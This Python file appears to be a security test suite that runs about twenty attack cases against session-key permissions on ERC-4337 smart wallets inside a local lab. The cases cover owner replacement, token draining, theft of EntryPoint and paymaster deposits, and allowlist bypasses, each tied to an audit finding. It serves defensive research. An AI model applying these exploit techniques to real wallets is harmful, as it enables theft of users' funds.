"""Attacks on reach: calling contracts or functions that were not granted."""

from __future__ import annotations

from sessionlab.attacks.attack import attack
from sessionlab.attacks.attack_lab import (
    BALANCE,
    COUNTER,
    DEPOSIT,
    GAS,
    INCREMENT,
    MERCHANT,
    OTHER_TOKEN,
    SESSION,
    SPONSORED,
    STRANGER,
    SUPPLY,
    TOKEN,
    WALLET,
    AttackLab,
    deposit_of,
    left,
)
from sessionlab.attacks.gains import counts, owner, root, units, wei
from sessionlab.attacks.operations import act, install, transact
from sessionlab.core.base.addresses import ZERO_ADDRESS
from sessionlab.core.contracts.artifacts import artifact
from sessionlab.core.deployments import FACTORY
from sessionlab.core.erc4337 import wallet_encoding as account
from sessionlab.core.erc4337.call import Call
from sessionlab.core.erc4337.user_operation import ENTRY_POINT
from sessionlab.core.permissions import (
    AccountFunctions,
    ContractAccess,
    Erc20TokenTransfer,
    FunctionsOnAllContracts,
    FunctionsOnContract,
    GasLimit,
    NativeTokenTransfer,
    Root,
    rows,
)
from sessionlab.core.permissions.limits import GrantKind

KEY = "the session key"
MODULES = "RULES of production, measured on Modular Account v2.0.0"
wallet_abi, token_abi, entry_point_abi = artifact("SessionWallet"), artifact("Token"), artifact("EntryPoint")
ACCESS = ContractAccess(address=COUNTER)
REPLACE_OWNER = wallet_abi.encode("updateFallbackSignerData", SESSION.address, False)
TAKE_ALL = token_abi.encode("transfer", STRANGER.address, SUPPLY)
#: The session installs a second session for its own key, with root permission.
MAKE_ROOT = account.install_call(entity_id=9, key=SESSION.address, rows=rows([Root()]))


@attack("reach", holds=KEY, gain="all tokens", source="Modular Account v2.0.0, GHSA-wfm2-rq5g-f8v5")
def wrapped_call(lab: AttackLab) -> str:
    """An allowlist that looks at execute and executeBatch alone does not see a call wrapped in executeUserOp."""
    install(lab, [ACCESS])
    act(lab, [Call(TOKEN, data=TAKE_ALL)], wrapped=True)
    act(lab, [Call(COUNTER, data=INCREMENT), Call(TOKEN, data=TAKE_ALL)], wrapped=True)
    return units(lab)


@attack("reach", holds=KEY, gain="all tokens", source=MODULES)
def unlisted_target(lab: AttackLab) -> str:
    """A call to a contract that no permission names, alone and behind an allowed one."""
    install(lab, [ACCESS])
    act(lab, [Call(TOKEN, data=TAKE_ALL)])
    act(lab, [Call(COUNTER, data=INCREMENT), Call(TOKEN, data=TAKE_ALL)])
    return units(lab)


@attack("reach", holds=KEY, gain="7 counts that the key may not make", source=MODULES)
def unlisted_function(lab: AttackLab) -> str:
    """Another function of a contract of which one function is granted."""
    install(lab, [FunctionsOnContract(address=COUNTER, functions=["0x" + INCREMENT.hex()])])
    act(lab, [Call(COUNTER, data=artifact("Counter").encode("add", 7))])
    return counts(lab)


@attack("reach", holds=KEY, gain="the wallet: the key becomes its owner", source="Modular Account v1 audit, MSCA-3")
def self_call(lab: AttackLab) -> str:
    """The wallet is told to call itself: execute to the wallet, and every nesting of batches."""
    install(lab, [ACCESS])
    inner = Call(WALLET, data=REPLACE_OWNER)
    nested = Call(WALLET, data=account.execute(inner, wrapped=False))
    batch = Call(WALLET, data=account.execute_batch([inner], wrapped=False))
    ping = Call(COUNTER, data=INCREMENT)
    for calls in ([inner], [ping, inner], [nested], [ping, nested], [batch], [ping, batch]):
        act(lab, calls)
        act(lab, calls, wrapped=True)
    return owner(lab)


@attack("reach", holds="a root session's key", gain="the recursion guard", source="Modular Account v1 audit, MSCA-4")
def recursion_as_root(lab: AttackLab) -> str:
    """Root may do everything, but not send a batch within a batch."""
    install(lab, [Root()])
    inner = Call(COUNTER, data=INCREMENT)
    for data in (account.execute(inner, wrapped=False), account.execute_batch([inner], wrapped=False)):
        act(lab, [Call(WALLET, data=data)])
        act(lab, [Call(WALLET, data=data), Call(MERCHANT)])
    return counts(lab)


@attack("reach", holds=KEY, gain="a session with every right", source="Modular Account v2: the SDK's blocklist")
def privileged_selector(lab: AttackLab) -> str:
    """The owner is talked into granting installSession, in a row made by hand."""
    install(lab, given=[(GrantKind.ACCOUNT_FUNCTION, ZERO_ADDRESS, MAKE_ROOT[:4], 0)])
    act(lab, MAKE_ROOT)
    return root(lab)


@attack("reach", holds=KEY, gain="a session with every right", source=MODULES)
def own_function_not_granted(lab: AttackLab) -> str:
    """A function of the wallet itself, where only a contract's are granted."""
    install(lab, [ACCESS])
    for wrapped in (False, True):
        act(lab, MAKE_ROOT, wrapped=wrapped)
        act(lab, REPLACE_OWNER, wrapped=wrapped)
    return root(lab) or owner(lab)


@attack(
    "reach",
    holds=KEY,
    gain="the wallet: the key becomes its owner",
    source="measured: production's blocklist does not name updateFallbackSignerData",
    passes=("documented", "deployed"),
)
def owner_swap(lab: AttackLab) -> str:
    """account-functions names the function that replaces the owner. Nothing refuses this; the audit calls it out."""
    install(lab, [AccountFunctions(functions=["0x" + REPLACE_OWNER[:4].hex()])])
    act(lab, REPLACE_OWNER)
    return owner(lab)


@attack("reach", holds=KEY, gain="the wallet", source="SmartSession audit, Renascence H-2", part_of="fallback-target")
def wallet_as_target(lab: AttackLab) -> str:
    """contract-access to the wallet itself, in a row made by hand."""
    install(lab, given=[(GrantKind.CONTRACT, WALLET, bytes(4), 0)])
    act(lab, [Call(WALLET, data=REPLACE_OWNER), Call(WALLET, data=MAKE_ROOT)])
    return owner(lab) or root(lab)


@attack(
    "reach",
    holds=KEY,
    gain="the whole deposit of 10 ETH",
    source="measured on production: withdrawTo asks only who calls",
    passes=("documented", "deployed"),
    part_of="fallback-target",
)
def entry_point_as_target(lab: AttackLab) -> str:
    """contract-access to the EntryPoint: withdrawTo sends the wallet's deposit to anybody. The audit calls it out."""
    install(lab, [ContractAccess(address=ENTRY_POINT)])
    taking = DEPOSIT - 2 * GAS["max_fee_per_gas"] * 2_000_000
    before = lab.chain.balance(MERCHANT)
    act(lab, [Call(ENTRY_POINT, data=entry_point_abi.encode("withdrawTo", MERCHANT, taking))])
    got = lab.chain.balance(MERCHANT) - before
    return f"{got:,} wei of the deposit" if got else ""


@attack(
    "reach",
    holds=KEY,
    gain="the sponsor's deposit, or a wallet in another's name",
    source="SmartSession, RN1 H-2",
    part_of="fallback-target",
)
def machinery_as_target(lab: AttackLab) -> str:
    """contract-access to paymaster and factory: neither takes orders from a wallet."""
    install(lab, [ContractAccess(address=SPONSORED), ContractAccess(address=FACTORY)])
    before = deposit_of(lab, SPONSORED)
    withdraw = artifact("SponsorPaymaster").encode("withdrawTo", STRANGER.address, before)
    act(lab, [Call(SPONSORED, data=withdraw)])
    act(lab, [Call(FACTORY, data=wallet_abi.encode("initialize", SESSION.address))])
    lost = before - deposit_of(lab, SPONSORED)
    return (f"{lost:,} wei of the sponsor" if lost else "") or owner(lab)


@attack(
    "reach",
    holds=KEY,
    gain="all the ETH of the wallet",
    source="Modular Account v2 allowlist: short data is padded with zeros",
    passes=("deployed",),
)
def zero_selector(lab: AttackLab) -> str:
    """functions-on-all-contracts [0x00000000] against empty data: padded, it is that selector."""
    install(lab, [FunctionsOnAllContracts(functions=["0x00000000"])])
    act(lab, [Call(MERCHANT, BALANCE // 2)])
    return wei(lab, MERCHANT)


@attack(
    "reach",
    holds=KEY,
    gain="every token that has no limit of its own",
    source="the wildcard as documented",
    passes=("documented", "deployed"),
)
def wildcard_token(lab: AttackLab) -> str:
    """functions-on-all-contracts [transfer] moves every token without a limit. The audit calls it out."""
    install(lab, [FunctionsOnAllContracts(functions=["transfer(address,uint256)"])])
    act(lab, [Call(OTHER_TOKEN, data=TAKE_ALL)])
    return units(lab, OTHER_TOKEN)


@attack("reach", holds=KEY, gain="all of a token that is limited to 50 units", source="the wildcard as documented")
def wildcard_over_a_limit(lab: AttackLab) -> str:
    """The wildcard names transfer, and the token has a limit: the limit holds."""
    everywhere = FunctionsOnAllContracts(functions=["transfer(address,uint256)"])
    install(lab, [Erc20TokenTransfer(address=TOKEN, allowance=50), everywhere])
    act(lab, [Call(TOKEN, data=TAKE_ALL)])
    return units(lab)


@attack("reach", holds=KEY, gain="all tokens", source="MetaMask Delegation Framework, Diligence 5.1, critical")
def free_calldata(lab: AttackLab) -> str:
    """Only native-token-transfer is granted: a call of value 0 carries token.transfer as its data."""
    install(lab, [NativeTokenTransfer(allowance=10)])
    act(lab, [Call(TOKEN, data=TAKE_ALL)])
    return units(lab)


@attack("reach", holds=KEY, gain="a plain send that was not granted", source=MODULES)
def plain_send_by_access(lab: AttackLab) -> str:
    """Empty data to an address that no permission names."""
    install(lab, [ACCESS])
    act(lab, [Call(MERCHANT, 5)])
    return wei(lab, MERCHANT)


@attack(
    "reach",
    holds=KEY,
    gain="5 wei by a payable function",
    source="measured on production",
    passes=("deployed",),
)
def value_without_permission(lab: AttackLab) -> str:
    """contract-access is granted, native-token-transfer is not: the call carries ETH all the same."""
    install(lab, [ACCESS])
    act(lab, [Call(COUNTER, 5)])
    return wei(lab, COUNTER)


@attack("reach", holds=KEY, gain="gas over the limit", source="SmartSession audit, Cantina 3.2.7")
def empty_batch(lab: AttackLab) -> str:
    """executeBatch of no calls satisfies every rule about calls: it burns gas, and must count."""
    unit = 1 if lab.rules.gas_limit_counts_gas else GAS["max_fee_per_gas"]
    each = (GAS["verification_gas_limit"] + GAS["call_gas_limit"] + GAS["pre_verification_gas"]) * unit
    install(lab, [GasLimit(limit=2 * each), ACCESS])
    done = sum(act(lab, []).phase == "ok" for _ in range(4))
    return f"{done} operations, where the limit is worth 2" if done * each > 2 * each - left(lab, 3) else ""


@attack("reach", holds=KEY, gain="everything", source="MetaMask Delegation Framework, Diligence DI6 5.1")
def no_permissions(lab: AttackLab) -> str:
    """A session without a permission, installed by hand: nothing granted must not mean nothing forbidden."""
    install(lab, given=[])
    act(lab, [Call(TOKEN, data=TAKE_ALL)])
    act(lab, [Call(MERCHANT, 5)], wrapped=True)
    act(lab, REPLACE_OWNER)
    return units(lab) or wei(lab, MERCHANT) or owner(lab)


@attack("reach", holds=KEY, gain="everything", source=MODULES)
def global_without_root(lab: AttackLab) -> str:
    """A session of few rights claims the global validation in its nonce."""
    install(lab, [ACCESS])
    act(lab, MAKE_ROOT, is_global=True)
    act(lab, [Call(COUNTER, data=INCREMENT)], is_global=True)
    return root(lab) or counts(lab)


@attack("reach", holds="an account of its own", gain="the wallet", source="any wallet: who may call it")
def stranger_at_the_door(lab: AttackLab) -> str:
    """Transactions to the wallet itself, from an account that has no right to it."""
    spend = account.execute(Call(TOKEN, data=TAKE_ALL), wrapped=False)
    batch = account.execute_batch([Call(TOKEN, data=TAKE_ALL)], wrapped=False)
    for data in (REPLACE_OWNER, MAKE_ROOT, spend, batch):
        transact(lab, STRANGER, WALLET, data)
    return owner(lab) or root(lab) or units(lab)
